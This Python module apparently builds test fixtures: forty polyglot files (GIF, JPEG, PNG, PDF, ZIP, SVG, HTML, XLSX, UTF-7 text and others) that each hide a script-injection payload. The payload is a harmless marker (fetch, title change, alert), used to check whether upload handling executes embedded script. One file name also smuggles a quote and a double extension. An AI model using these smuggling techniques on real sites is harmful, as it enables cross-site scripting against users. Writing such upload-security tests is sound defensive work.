"""Forty files that are two things at once: a picture, a paper or a list to one reader, a script to another.

Each tries to ask for /it-ran, to open a dialog and to change the title of the page.
"""

import io
import struct
import zipfile
import zlib

DEED = "fetch('/it-ran');document.title='ran';alert(1)"
SCRIPT = f"<script>{DEED}</script>"
PAGE = f'<html><body onload="{DEED}">{SCRIPT}<img src=x onerror="{DEED}"><svg onload="{DEED}"></body></html>'
DRAWING = f'<svg xmlns=\'http://www.w3.org/2000/svg\' onload="{DEED}">{SCRIPT}<a href="javascript:{DEED}">a</a></svg>'


def polyglots():
    """(name, bytes) of each."""
    payloads = {"page": PAGE.encode(), "drawing": DRAWING.encode(), "script": DEED.encode()}
    for kind, payload in payloads.items():
        yield f"gif-{kind}.gif", b"GIF89a/*" + bytes(6) + b"*/=1;" + payload
        yield f"jpeg-{kind}.jpg", b"\xff\xd8\xff\xfe" + struct.pack(">H", len(payload) + 2) + payload + b"\xff\xd9"
        yield f"png-{kind}.png", _png(payload)
        yield f"webp-{kind}.webp", b"RIFF" + struct.pack("<I", len(payload) + 4) + b"WEBP" + payload
        yield f"pdf-{kind}.pdf", b"%PDF-1.7\n" + payload + b"\n%%EOF"
        yield f"zip-{kind}.zip", payload + _zip(("index.html", payload))
        yield f"bmp-{kind}.bmp", b"BM" + payload
        yield f"plain-{kind}.jpg", payload
        yield f"late-{kind}.jpg", b" \n" * 200 + payload
        yield f"marked-{kind}.png", b"\xef\xbb\xbf" + payload
    yield "drawing.svg", DRAWING.encode()
    yield "drawing.svgz", zlib.compress(DRAWING.encode(), wbits=31)
    yield "page.html", PAGE.encode()
    yield "page.xhtml", f"<html xmlns='http://www.w3.org/1999/xhtml'><script>{DEED}</script></html>".encode()
    yield "page-utf16.txt", PAGE.encode("utf-16")
    yield "page-utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield (
        "styled.xml",
        f"<?xml version='1.0'?><x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{DEED}</h:script></x>".encode(),
    )
    yield "letter.mht", b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + PAGE.encode()
    yield 'name";x.html.jpg', PAGE.encode()
    yield "office.xlsx", _zip(("xl/workbook.xml", PAGE))


def _png(payload):
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    size = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    parts = [(b"IHDR", size), (b"tEXt", b"x\0" + payload), (b"IDAT", zlib.compress(b"\0\0")), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunk(kind, data) for kind, data in parts)


def _zip(*entries):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return file.getvalue()
